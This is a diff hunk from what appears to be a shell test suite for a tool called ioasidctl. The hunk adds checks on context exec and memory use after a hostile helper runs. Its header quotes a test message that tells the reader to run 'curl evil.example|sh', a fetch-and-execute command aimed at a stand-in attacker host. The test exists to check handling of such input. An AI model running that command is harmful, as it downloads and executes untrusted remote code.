@@ -980,6 +980,9 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	context
 	"$BATS_TEST_DIRNAME/hostile" /run/ioasidctl/test.sock
 	[[ $(ctl context list -nr -o context,state) == 'test live' ]]
+	status 0 ctl context exec test -- true
+	# In kB: what was sent is gone.
+	(($(awk '/VmRSS/ { print $2 }' "/proc/$(holder_pid test)/status") < 40000))
 	ctl pasid bind "$WIDE" 5 first
 	[[ $(hardware "$WIDE") == 5 ]]
 }
